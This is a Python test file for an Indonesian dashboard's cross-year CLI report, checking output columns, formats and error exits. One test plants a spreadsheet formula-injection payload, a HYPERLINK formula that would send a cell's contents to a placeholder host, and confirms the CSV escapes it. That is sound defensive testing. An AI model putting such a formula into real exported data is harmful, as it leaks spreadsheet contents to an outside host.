"""`python -m dasbor lintas-tahun`: rows, formats, and exit code 2 with an Indonesian message on misuse."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest

from dasbor.__main__ import main
from dasbor.cli import lintas_tahun as lintas_cli
from dasbor.db import terbitan
from dasbor.db.connection import Database
from dasbor.services.lintas_tahun import lintas_tahun_db

KOLOM = list(lintas_cli.KOLOM)


@pytest.fixture
def env(demo_db: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DASBOR_DB", str(demo_db))
    return demo_db


def _baca_csv(keluar: str) -> pd.DataFrame:
    """The CLI's CSV is for programs (commas, dot decimals; cli.bacaan.cetak_tabel), as inovasi and hasil."""
    return pd.read_csv(io.StringIO(keluar), dtype={"kode_wilayah": str, "id_inovasi": str, "nama_inovasi": str})


def test_csv_lists_every_flagged_innovation_of_the_regions(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["lintas-tahun", "--tahun", "2025", "--wilayah", "63.72", "63.02"]) == 0
    keluar = _baca_csv(capsys.readouterr().out)
    assert list(keluar.columns) == KOLOM
    db = Database(env, read_only=True)
    try:
        harap = lintas_tahun_db(db, 2025)
    finally:
        db.close()
    harap = harap[harap["kode_wilayah"].isin(["63.72", "63.02"])]
    assert sorted(keluar["id_inovasi"]) == sorted(harap["id_inovasi"])
    assert set(keluar["jenis"]) == {"belum_diinput_ulang", "belum_diperbarui"}
    assert (keluar["tahun_sebelumnya"] == 2024).all()
    nilai = harap.set_index("id_inovasi")["nilai_perbaikan"]
    assert keluar.set_index("id_inovasi")["nilai_perbaikan"].to_dict() == pytest.approx(nilai.to_dict(), abs=1e-6)


def test_columns_are_those_the_issue_names() -> None:
    assert ", ".join(KOLOM) == (
        "kode_wilayah, id_inovasi, nama_inovasi, perangkat_daerah, jenis, tahun_sebelumnya, nilai_perbaikan"
    )


def test_json_format(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["lintas-tahun", "--tahun", "2025", "--wilayah", "63.72", "--format", "json"]) == 0
    baris = json.loads(capsys.readouterr().out)
    assert baris and all(list(b) == KOLOM and b["kode_wilayah"] == "63.72" for b in baris)


@pytest.mark.parametrize(
    ("argv", "pesan"),
    [
        (["--tahun", "2019"], "Tahun 2019 tidak ada di basis data"),
        (["--tahun", "2025", "--wilayah", "63.72", "63.99"], "Kode wilayah tidak dikenal: 63.99"),
    ],
)
def test_misuse_exits_2_with_a_message(env: Path, capsys: pytest.CaptureFixture[str], argv: list, pesan: str) -> None:
    assert main(["lintas-tahun", *argv]) == 2
    keluar = capsys.readouterr()
    assert pesan in keluar.err and keluar.out == ""


def test_first_year_has_nothing_to_compare(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["lintas-tahun", "--tahun", "2021"]) == 0
    keluar = capsys.readouterr()
    assert keluar.out.strip() == ",".join(KOLOM) and "tidak ada yang dapat dibandingkan" in keluar.err


def test_csv_never_hands_a_spreadsheet_a_formula(
    salinan_db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """An innovation named like a formula (typed by an operator) arrives in the CSV as text, as in every other
    table the dashboard writes."""
    rumus = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    with terbitan.penulis(salinan_db, paksa=True) as db, db.transaction() as cur:
        cur.execute("UPDATE inovasi SET nama_inovasi = ? WHERE kode_wilayah = '63.72'", [rumus])
    monkeypatch.setenv("DASBOR_DB", str(salinan_db))
    try:
        assert main(["lintas-tahun", "--tahun", "2025", "--wilayah", "63.72"]) == 0
    finally:
        terbitan.tutup_semua()
    keluar = _baca_csv(capsys.readouterr().out)
    assert len(keluar) > 0
    assert (keluar["nama_inovasi"] == "'" + rumus).all()
